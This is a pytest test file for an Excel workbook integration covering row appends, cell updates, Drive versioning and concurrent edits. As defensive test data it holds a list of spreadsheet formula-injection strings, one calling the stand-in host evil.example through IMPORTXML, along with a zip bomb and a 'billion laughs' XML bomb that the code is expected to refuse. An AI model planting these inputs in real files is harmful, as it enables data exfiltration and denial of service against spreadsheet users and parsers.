import io
import zipfile
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest
from openpyxl.worksheet.table import Table
from pydantic import ValidationError

from app import integrations
from app.engine.files import FileStore
from app.integrations.excel import (
    Account,
    Cells,
    NewBook,
    NewRow,
    Range,
    WatchedBook,
    append_row,
    check,
    make_workbook,
    new_row,
    read_range,
    update_cell,
)
from app.sdk import workbooks
from app.sdk.context import FileRef
from app.sdk.errors import AuthError, RejectedError, TemporaryError
from tests.integrations.conftest import NOW
from tests.providers import google as provider
from tests.providers.google_drive import SCOPE, DriveApi

XLSX = workbooks.MEDIA_TYPE
NAMES = ["Order", "Total", "Paid"]
# shared/HOSTILE.md: what a spreadsheet would run
HOSTILE = ['=IMPORTXML("https://evil.example","//a")', "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "=1+1"]


@pytest.fixture
def files(engine, world):
    return FileStore(engine.database, engine.writer, world.workspace.id)


@pytest.fixture
def store_ctx(ctx, files):
    """Without a connection: no provider is there."""
    return replace(ctx, files=files)


@pytest.fixture
def api():
    return DriveApi()


@pytest.fixture
def google(api):
    with provider.google_server(api) as server:
        yield server


@pytest.fixture
def drive_ctx(store_ctx, google):
    return replace(store_ctx, base_url=google.url)


@pytest.fixture
def connection(google):
    access, refresh = google.sign_in(SCOPE)
    return Account(
        client_id=provider.CLIENT_ID,
        client_secret=provider.CLIENT_SECRET,
        access_token=access,
        refresh_token=refresh,
        expires_at=NOW + timedelta(hours=1),
        granted=[SCOPE],
    )


def book(*rows, title="Orders", change=lambda sheet: None):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    workbook.create_sheet("Other").append(["x"])
    change(sheet)
    content = io.BytesIO()
    workbook.save(content)
    return content.getvalue()


@pytest.fixture
def content():
    return book(NAMES, ["A-1001", 150, True], ["A-1002", 90])


@pytest.fixture
def ref(files, content):
    return files.save("orders.xlsx", XLSX, [content])


def opened(files, ref):
    return openpyxl.load_workbook(io.BytesIO(b"".join(files.open(FileRef.model_validate(ref)))))


def rows_of(sheet):
    return [list(row) for row in sheet.iter_rows(values_only=True)]


# files of earlier steps


def test_a_row_is_appended_to_a_new_file_and_the_old_one_stays(store_ctx, files, ref):
    output = append_row(store_ctx, None, NewRow(file=ref, row={"total": 75, "Order": "A-1003"}))

    assert (output["number"], output["range"]) == (4, "A4:C4")
    assert (output["file"]["name"], output["file"]["type"]) == ("orders.xlsx", XLSX)
    assert output["file"]["id"] != ref.id
    assert rows_of(opened(files, output["file"])["Orders"])[3] == ["A-1003", 75, None]
    assert len(rows_of(opened(files, ref)["Orders"])) == 3


def test_the_rest_of_a_workbook_stays_as_it_was(store_ctx, files):
    def change(sheet):
        sheet["D2"] = "=B2*2"
        sheet["B2"].number_format = "0.00"
        sheet.column_dimensions["A"].width = 33
        sheet.add_table(Table(displayName="Bills", ref="A1:C3"))
        # A format far below is no row.
        sheet["A900"].number_format = "0.00"

    ref = files.save("a.xlsx", XLSX, [book(NAMES, ["A-1001", 150, True], ["A-1002", 90], change=change)])

    output = append_row(store_ctx, None, NewRow(file=ref, sheet="orders", cells=["A-1003", 75]))

    workbook = opened(files, output["file"])
    sheet = workbook["Orders"]
    assert output["number"] == 4
    assert (sheet["D2"].value, sheet["B2"].number_format) == ("=B2*2", "0.00")
    assert sheet.column_dimensions["A"].width == 33
    assert sheet.tables["Bills"].ref == "A1:C4"
    assert workbook.sheetnames == ["Orders", "Other"]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_excel_would_run_is_text_unless_formulas_are_asked_for(store_ctx, files, ref, text):
    appended = append_row(store_ctx, None, NewRow(file=ref, row={"Order": text}))
    changed = update_cell(store_ctx, None, Cells(file=appended["file"], range="B2", values=text))
    made = make_workbook(store_ctx, None, NewBook(rows=[{"Order": text}]))

    sheet, other = opened(files, changed["file"])["Orders"], opened(files, made["file"])["Sheet1"]
    for cell in (sheet["A4"], sheet["B2"], other["A2"]):
        assert cell.data_type == "s"
        # openpyxl reads a carriage return as a line break, as XML says.
        assert cell.value.replace("\n", "\r") == text


def test_a_formula_is_one_when_it_is_asked_for(store_ctx, files, ref):
    output = append_row(store_ctx, None, NewRow(file=ref, cells=["=SUM(B2:B3)", "+1"], formulas=True))

    sheet = opened(files, output["file"])["Orders"]
    assert (sheet["A4"].data_type, sheet["B4"].data_type) == ("f", "s")


def test_cells_are_changed_and_read(store_ctx, ref):
    changed = update_cell(store_ctx, None, Cells(file=ref, range="b2:c3", values=[[1, False], [2.5, "x"]]))

    everything = read_range(store_ctx, None, Range(file=changed["file"]))
    part = read_range(
        store_ctx, None, Range(file=changed["file"], range="B2:C9", names=False, sheet="Orders")
    )

    assert everything == {
        "sheet": "Orders",
        "count": 2,
        "rows": [
            {"Order": "A-1001", "Total": 1, "Paid": False},
            {"Order": "A-1002", "Total": 2.5, "Paid": "x"},
        ],
    }
    assert part["rows"] == [[1, False], [2.5, "x"]]


def test_dates_and_formulas_are_read_as_values(store_ctx, files):
    content = book(["at", "sum"], [datetime(2026, 11, 21), "=1+1"], [datetime(2026, 11, 21, 9, 30), None])

    output = read_range(store_ctx, None, Range(file=files.save("a.xlsx", XLSX, [content])))

    # openpyxl computes nothing, so that this file holds no result.
    assert output["rows"] == [{"at": "2026-11-21", "sum": ""}, {"at": "2026-11-21T09:30:00", "sum": ""}]


def test_a_workbook_is_made_of_rows_with_all_their_names(store_ctx, files):
    rows = [{"Order": "A-1001", "Total": 150}, {"Order": "A-1002", "Note": {"a": 1}}, ["A-1003"]]

    output = make_workbook(store_ctx, None, NewBook(rows=rows, name="../orders", sheet="Orders/2026"))

    workbook = opened(files, output["file"])
    assert (output["rows"], output["file"]["name"]) == (3, "orders.xlsx")
    assert rows_of(workbook["Orders-2026"]) == [
        ["Order", "Total", "Note"],
        ["A-1001", 150, None],
        ["A-1002", None, '{"a":1}'],
        ["A-1003", None, None],
    ]


# what goes wrong with files


def test_a_sheet_or_column_that_is_not_there_is_named(store_ctx, ref):
    with pytest.raises(
        RejectedError, match=r"no sheet Bills in this workbook; was it renamed\? it has Orders, Other"
    ):
        append_row(store_ctx, None, NewRow(file=ref, sheet="Bills", cells=[1]))
    with pytest.raises(RejectedError, match="the sheet Orders has no column Totl; it has Order, Total, Paid"):
        append_row(store_ctx, None, NewRow(file=ref, row={"Totl": 1}))
    with pytest.raises(RejectedError, match="no sheet Bills"):
        read_range(store_ctx, None, Range(file=ref, sheet="Bills"))


def zipped(**parts):
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name.replace("__", "/"), body)
    return content.getvalue()


def billion_laughs():
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha" * 10}">' for n in range(9))
    return f'<?xml version="1.0"?><!DOCTYPE x [{entities}]><worksheet>&l8;</worksheet>'


def with_sheet(content, xml):
    source, target = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in source.namelist():
            archive.writestr(name, xml if name == "xl/worksheets/sheet1.xml" else source.read(name))
    return target.getvalue()


CALLS = [
    lambda ctx, ref: append_row(ctx, None, NewRow(file=ref, cells=[1])),
    lambda ctx, ref: update_cell(ctx, None, Cells(file=ref, range="A1", values=1)),
    lambda ctx, ref: read_range(ctx, None, Range(file=ref)),
]


@pytest.mark.parametrize("call", CALLS)
@pytest.mark.parametrize(
    "bad",
    [b"", b"a,b\r\n", b"PK\x03\x04 cut off", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an old .xls", zipped(a="b")],
)
def test_what_is_no_workbook_is_refused(store_ctx, files, call, bad):
    with pytest.raises(RejectedError, match=r"not an \.xlsx workbook"):
        call(store_ctx, files.save("a.xlsx", XLSX, [bad]))


@pytest.mark.parametrize("call", CALLS)
def test_bombs_are_refused_before_they_are_unpacked(store_ctx, files, call):
    huge = zipped(xl__worksheets__sheet1=b"0" * (201 * 1024 * 1024))

    assert len(huge) < 1024 * 1024
    with pytest.raises(RejectedError, match="would unpack to more than 200 MB"):
        call(store_ctx, files.save("a.xlsx", XLSX, [huge]))


@pytest.mark.parametrize("call", CALLS)
def test_xml_that_blows_itself_up_is_refused(store_ctx, files, content, call):
    with pytest.raises(RejectedError):
        call(store_ctx, files.save("a.xlsx", XLSX, [with_sheet(content, billion_laughs())]))


def test_a_workbook_that_is_too_large_to_change_can_still_be_read(store_ctx, files, content):
    padded = io.BytesIO(content)
    with zipfile.ZipFile(padded, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/image1.png", b"0" * (11 * 1024 * 1024))
    ref = files.save("a.xlsx", XLSX, [padded.getvalue()])

    with pytest.raises(RejectedError, match="more than 10 MB cannot be changed here"):
        append_row(store_ctx, None, NewRow(file=ref, cells=[1]))
    assert read_range(store_ctx, None, Range(file=ref))["count"] == 2


def test_a_sheet_that_claims_to_be_endless_is_read_by_what_it_holds(store_ctx, files, content):
    xml = (
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1"><v>7</v></c></row></sheetData></worksheet>'
    )
    ref = files.save("a.xlsx", XLSX, [with_sheet(content, xml)])

    assert read_range(store_ctx, None, Range(file=ref, names=False))["rows"] == [[7]]


def test_macros_are_not_lost_silently(store_ctx, files, content):
    with_macros = io.BytesIO(content)
    with zipfile.ZipFile(with_macros, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"x")

    with pytest.raises(RejectedError, match="macros, which would be lost"):
        append_row(
            store_ctx, None, NewRow(file=files.save("a.xlsm", XLSX, [with_macros.getvalue()]), cells=[1])
        )


def test_a_cell_inside_of_merged_ones_is_refused(store_ctx, files):
    ref = files.save("a.xlsx", XLSX, [book(NAMES, change=lambda sheet: sheet.merge_cells("A2:B2"))])

    with pytest.raises(RejectedError, match="B2 is inside of merged cells"):
        update_cell(store_ctx, None, Cells(file=ref, range="B2", values=1))


def test_an_empty_row_is_refused(store_ctx, ref):
    with pytest.raises(RejectedError, match="the row is empty"):
        append_row(store_ctx, None, NewRow(file=ref))


def test_a_row_of_an_earlier_step_arrives_as_a_list_in_a_list(ref):
    assert NewRow(file=ref, cells=[["A-1003", 75]]).cells == ["A-1003", 75]


def test_a_text_that_no_cell_holds_is_refused(store_ctx, ref):
    with pytest.raises(RejectedError, match="A4 holds a text of more than 32767"):
        append_row(store_ctx, None, NewRow(file=ref, cells=["x" * 32_768]))


def test_a_file_that_is_gone_is_named(store_ctx, ref):
    gone = FileRef(id="fil_" + "0" * 26, name="lost.xlsx")

    with pytest.raises(RejectedError, match=r"lost\.xlsx is not kept any more"):
        append_row(store_ctx, None, NewRow(file=gone, cells=[1]))


@pytest.mark.parametrize("both", [{}, {"file": "fil_" + "0" * 26, "drive_file": "1a2B3c4D5e6F"}])
def test_one_workbook_has_to_be_chosen(both):
    with pytest.raises(
        ValidationError, match="choose either a file of an earlier step or one on google drive"
    ):
        Range(**both)


def test_a_file_on_drive_needs_a_connection(store_ctx):
    with pytest.raises(RejectedError, match="needs a connection; choose one"):
        read_range(store_ctx, None, Range(drive_file="1a2B3c4D5e6F"))


# files on drive


@pytest.fixture
def stored(api, content):
    return api.add("orders.xlsx", content, type=XLSX)


def on_drive(stored):
    return rows_of(openpyxl.load_workbook(io.BytesIO(stored.content))["Orders"])


def test_a_row_is_appended_on_drive_as_a_new_version(drive_ctx, connection, stored):
    params = NewRow(
        drive_file=f"https://docs.google.com/spreadsheets/d/{stored.id}/edit", row={"Order": "A-1003"}
    )

    output = append_row(drive_ctx, connection, params)
    found = read_range(drive_ctx, connection, Range(drive_file=stored.id))

    assert output == {"number": 4, "range": "A4:C4", "drive_file": stored.id}
    assert on_drive(stored)[3] == ["A-1003", None, None]
    assert (len(stored.revisions), stored.type) == (2, XLSX)
    assert [row["Order"] for row in found["rows"]] == ["A-1001", "A-1002", "A-1003"]


def test_cells_are_changed_on_drive(drive_ctx, connection, stored):
    update_cell(drive_ctx, connection, Cells(drive_file=stored.id, range="B2", values=0))

    assert on_drive(stored)[1] == ["A-1001", 0, True]


def test_a_change_by_somebody_else_meanwhile_is_not_overwritten(
    drive_ctx, connection, api, stored, google, content
):
    theirs = book(NAMES, ["theirs"])
    answer, seen = api.files_get, []

    def files_get(call):
        seen.append(call)
        if len(seen) == 3:
            api.write(stored, theirs)
        return answer(call)

    api.files_get = files_get

    with pytest.raises(
        TemporaryError, match=r"orders\.xlsx was changed by somebody else meanwhile"
    ) as failure:
        append_row(drive_ctx, connection, NewRow(drive_file=stored.id, cells=["mine"]))

    assert failure.value.sent is False
    assert on_drive(stored) == [NAMES, ["theirs", None, None]]
    append_row(drive_ctx, connection, NewRow(drive_file=stored.id, cells=["mine"]))
    assert [row[0] for row in on_drive(stored)] == ["Order", "theirs", "mine"]


def test_a_change_at_the_same_moment_is_not_lost(drive_ctx, connection, api, stored):
    others = [book(NAMES, ["A-1001", 150, True], ["A-1002", 90], ["theirs"])]
    api.before_write = lambda: api.write(stored, others.pop()) if others else None

    output = append_row(drive_ctx, connection, NewRow(drive_file=stored.id, cells=["mine"]))

    assert [row[0] for row in on_drive(stored)] == ["Order", "A-1001", "A-1002", "theirs", "mine"]
    assert output["number"] == 5


def test_runs_that_append_at_once_lose_no_row(drive_ctx, connection, stored):
    def run(number):
        return append_row(drive_ctx, connection, NewRow(drive_file=stored.id, cells=[f"B-{number}"]))

    with ThreadPoolExecutor(4) as runs:
        outputs = list(runs.map(run, range(12)))

    assert sorted(output["number"] for output in outputs) == list(range(4, 16))
    assert sorted(row[0] for row in on_drive(stored)[3:]) == sorted(f"B-{number}" for number in range(12))


def test_changes_that_never_stop_are_told_of(drive_ctx, connection, api, stored):
    api.before_write = lambda: api.write(stored, book(NAMES, ["theirs"]))

    with pytest.raises(TemporaryError, match="theirs is among its versions in drive") as failure:
        append_row(drive_ctx, connection, NewRow(drive_file=stored.id, cells=["mine"]))

    assert failure.value.sent is True


def test_an_append_on_drive_is_repeated_by_itself_only_into_a_new_file(ref):
    action = integrations.load().action("excel.append_row")

    assert action.is_repeatable(NewRow(file=ref, cells=[1]))
    assert not action.is_repeatable(NewRow(drive_file="1a2B3c4D5e6F", cells=[1]))


def test_a_google_sheet_is_no_workbook(drive_ctx, connection, api):
    sheet = api.add("Orders", type="application/vnd.google-apps.spreadsheet")

    with pytest.raises(RejectedError, match=r"Orders is no \.xlsx workbook; .* use the google sheets steps"):
        read_range(drive_ctx, connection, Range(drive_file=sheet.id))


def test_a_workbook_that_is_gone_or_may_only_be_read_is_named(drive_ctx, connection, api, content):
    locked = api.add("locked.xlsx", content, type=XLSX, read_only=True)

    with pytest.raises(RejectedError, match="google has no file 1GoneGoneGone; was it deleted"):
        read_range(drive_ctx, connection, Range(drive_file="1GoneGoneGone"))
    with pytest.raises(RejectedError, match=r"does not let this account use the file locked\.xlsx"):
        append_row(drive_ctx, connection, NewRow(drive_file=locked.id, cells=[1]))


def test_a_quota_waits_and_a_withdrawn_access_names_the_mend(drive_ctx, connection, google, stored):
    google.fail(provider.says_error(429, "rateLimitExceeded", "slow", **{"Retry-After": "9"}))

    with pytest.raises(TemporaryError) as failure:
        append_row(drive_ctx, connection, NewRow(drive_file=stored.id, cells=[1]))
    assert (failure.value.after, failure.value.sent) == (9, False)

    google.revoke()
    with pytest.raises(AuthError, match="connect it again"):
        append_row(drive_ctx, connection, NewRow(drive_file=stored.id, cells=[1]))


def test_a_check_says_whose_drive_it_is(drive_ctx, connection):
    assert check(drive_ctx, connection) == f"connected to the drive of {provider.PERSON}"


# the trigger


def looks(ctx, connection, params):
    state = [None]

    def look():
        batch = new_row(ctx, connection, params, state[0], [])
        state[0] = batch.cursor
        return [one.data for one in batch.occurrences]

    return look


def test_a_new_row_of_a_workbook_on_drive_is_found_once(drive_ctx, connection, api, stored, google):
    look = looks(drive_ctx, connection, WatchedBook(file=stored.id))
    assert look() == []

    api.write(
        stored,
        book(
            NAMES,
            ["A-1001", 150, True],
            ["A-1002", 91],
            ["A-1003", datetime(2026, 1, 2, tzinfo=UTC).replace(tzinfo=None)],
        ),
    )

    assert look() == [{"number": 4, "row": {"Order": "A-1003", "Total": "2026-01-02", "Paid": ""}}]
    assert look() == []
    google.calls.clear()
    assert look() == []
    assert [call.params["alt"] for call in google.calls] == ["json"]


def test_the_first_look_takes_the_last_rows_when_asked(drive_ctx, connection, stored):
    look = looks(drive_ctx, connection, WatchedBook(file=stored.id, sheet="Orders", first=1))

    assert [data["number"] for data in look()] == [3]
    assert look() == []


def test_many_new_rows_come_in_several_looks(drive_ctx, connection, api, stored):
    look = looks(drive_ctx, connection, WatchedBook(file=stored.id))
    look()
    api.write(stored, book(NAMES, *[[f"C-{n}", n] for n in range(252)]))

    assert sum(len(look()) for _ in range(4)) == 250


def test_a_watched_sheet_that_was_renamed_is_named(drive_ctx, connection, api, stored):
    look = looks(drive_ctx, connection, WatchedBook(file=stored.id, sheet="Orders"))
    look()
    api.write(stored, book(NAMES, title="Bills"))

    with pytest.raises(
        RejectedError, match=r"no sheet Orders in this workbook; was it renamed\? it has Bills"
    ):
        look()
